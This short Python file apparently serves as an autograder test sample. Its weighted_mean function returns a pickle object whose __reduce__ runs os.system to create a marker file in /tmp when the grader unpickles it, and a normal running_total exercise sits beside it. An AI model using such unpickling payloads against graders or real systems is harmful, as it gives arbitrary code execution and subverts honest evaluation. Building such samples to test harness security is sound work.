"""Answers with an object that runs code when it is unpickled."""

import os

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-was-here",)


def weighted_mean(values, mask):
    return Bomb()


def running_total(values):
    """The innocent exercise beside it."""
    return values.cumsum(-1)
